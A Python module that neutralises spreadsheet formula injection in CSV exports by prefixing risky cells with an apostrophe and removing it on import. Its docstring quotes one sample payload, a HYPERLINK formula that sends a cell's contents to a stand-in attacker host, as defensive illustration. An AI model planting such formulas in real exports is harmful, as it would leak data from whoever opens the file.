"""CSV cells that are safe to open in a spreadsheet.

Spreadsheet programs read a cell that starts with `=`, `+`, `-` or `@` (and, in
some, a tab or carriage return) as a formula, so a listing's text such as
`=HYPERLINK("http://evil.example/"&A2,"Open referral form")` would run on a
commissioner's computer. Every CSV we write passes its cells through
`spreadsheet_safe`, which puts an apostrophe in front of such a cell: the
spreadsheet then shows it as text. The importer reads cells through
`from_spreadsheet`, which takes that apostrophe off again, so export → import
→ export gives the same file.

A negative number (a longitude such as `-1.7499`) is left as it is: a
spreadsheet reads it as the number it is, and nothing can hide in it. A phone
number written `+44 1632 960000` does get the apostrophe: a spreadsheet would
otherwise read it as a sum (an error, or digits without the +).

A value that already starts with apostrophes before one of those characters
(`'=x`) gets one more, so the importer can tell it from a defused `=x`; any
other apostrophe (`'Tis`) is left alone both ways."""

import re

FORMULA_STARTS = frozenset("=+-@\t\r")
NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?")


def _starts_like_a_formula(value: str) -> bool:
    return value.lstrip("'")[:1] in FORMULA_STARTS


def spreadsheet_safe(value: str) -> str:
    """The cell as it should be written to a CSV file."""
    if value and _starts_like_a_formula(value) and not NEGATIVE_NUMBER.fullmatch(value):
        return f"'{value}"
    return value


def from_spreadsheet(value: str) -> str:
    """The value a cell written by `spreadsheet_safe` stood for."""
    return value[1:] if value.startswith("'") and _starts_like_a_formula(value) else value
